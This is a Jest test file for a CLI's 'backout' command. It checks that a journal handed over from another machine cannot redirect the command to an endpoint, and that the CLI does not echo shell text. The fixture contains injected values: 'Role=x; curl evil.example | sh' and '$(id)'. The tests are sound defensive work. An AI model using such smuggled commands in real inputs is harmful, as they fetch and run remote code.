import { mkdtempSync, renameSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { freezeSettings } from '../../src/cli/change/frozen-run.js';
import { readKnownRun } from '../../src/cli/backout/known-run.js';
import { settingsInWords } from '../../src/cli/backout/foreign-journal.js';
import type { BackoutArguments } from '../../src/cli/backout/backout-settings.js';
import type { RunId } from '../../src/domain/ids.js';
import { createJournalStore } from '../../src/journal/journal-store.js';
import { useEnvironment } from '../support/lab-environment.js';
import { runCli } from '../support/run-cli.js';

const RUN = '20261119-080000-0a0a' as RunId;
const STARTED = new Date('2026-11-19T08:00:00.000Z');

let folder: string;
let server: Server;
let requests: number;
let endpoint: string;

/** A server that counts what reaches it, where the foreign file points. */
beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'lockstep-foreign-'));
  requests = 0;
  server = createServer((_, response) => {
    requests += 1;
    response.writeHead(403).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  useEnvironment({ AWS_ACCESS_KEY_ID: 'AKIA', AWS_SECRET_ACCESS_KEY: 'lab', AWS_REGION: 'eu-west-1' });
});
afterEach(() => {
  server.close();
  rmSync(folder, { recursive: true });
});

/** The journal of a rotation, as a file that somebody else has handed over. */
const foreignJournal = async (): Promise<string> => {
  const settings = {
    fleet: {
      tags: [{ key: 'Role', values: ['swarm-manager'] }],
      regions: ['eu-west-1'],
      profiles: [],
      roleArns: ['arn:aws:iam::666677778888:role/theirs'],
      externalIds: {},
      endpoint,
      swarms: [],
      deliverySeconds: 60,
      keys: {
        vault: 'secretsmanager',
        vaultPrefix: 'lockstep/',
        vaultHome: undefined,
        vaultHomes: {},
        kmsKey: 'alias/theirs',
        maxKeyAgeDays: 90,
      },
    },
    limits: { concurrency: 1, canary: 0, maxFailures: 0 },
    takeOver: null,
    own: { selection: ['--tag', 'Role=x; curl evil.example | sh'], vault: [], writing: ['$(id)'], again: null },
  } as const;
  const journal = await createJournalStore({ folder, now: () => STARTED }).create({
    runId: RUN,
    command: 'rotate',
    version: '0.1.0',
    selection: freezeSettings(settings),
    plan: [],
    scopes: [],
    caller: null,
    startedAt: STARTED,
  });
  await journal.close();
  const file = join(folder, 'handed-over');
  renameSync(join(folder, `${RUN}.ndjson`), file);
  return file;
};

const backout = (...args: readonly string[]) =>
  runCli(['backout', RUN, '--state-dir', join(folder, 'state'), '--dry-run', ...args]);

describe('backout by the journal of another machine', () => {
  it('takes no endpoint from the file, and says how to take it', async () => {
    const file = await foreignJournal();
    const { exitCode, stderr } = await backout('--journal', file);
    expect(exitCode).toBe(2);
    expect(stderr).toContain(`names the endpoint ${endpoint}`);
    expect(stderr).toContain(`--journal ${file} --endpoint-url ${endpoint}`);
    expect(requests).toBe(0);
  });

  it('goes on where the endpoint is given on the command line', async () => {
    const { stderr } = await backout('--journal', await foreignJournal(), '--endpoint-url', endpoint);
    expect(stderr).not.toContain('names the endpoint');
    expect(requests).toBeGreaterThan(0);
  });

  it('goes on where the environment has the same endpoint', async () => {
    useEnvironment({ AWS_ACCESS_KEY_ID: 'AKIA', AWS_SECRET_ACCESS_KEY: 'lab', AWS_ENDPOINT_URL: endpoint });
    await backout('--journal', await foreignJournal());
    expect(requests).toBeGreaterThan(0);
  });

  it('shows every setting that it goes by, and repeats no text for a shell', async () => {
    const args = {
      run: RUN,
      journal: await foreignJournal(),
      'endpoint-url': endpoint,
      vault: 'ssm-parameter',
    } as unknown as BackoutArguments;
    const { settings, foreign } = await readKnownRun(createJournalStore({ folder, now: () => STARTED }), args, folder);
    expect(foreign).toBe(args.journal);
    const words = settingsInWords(settings.fleet).join('\n');
    for (const part of [endpoint, 'eu-west-1', 'Role=swarm-manager', 'role/theirs', 'ssm-parameter', 'alias/theirs'])
      expect(words).toContain(part);
    const { selection, writing } = settings.own;
    expect(selection.slice(0, 4)).toEqual(['--tag', 'Role=swarm-manager', '--region', 'eu-west-1']);
    expect([...selection, ...writing].join(' ')).not.toMatch(/evil|\$\(id\)/);
  });
});
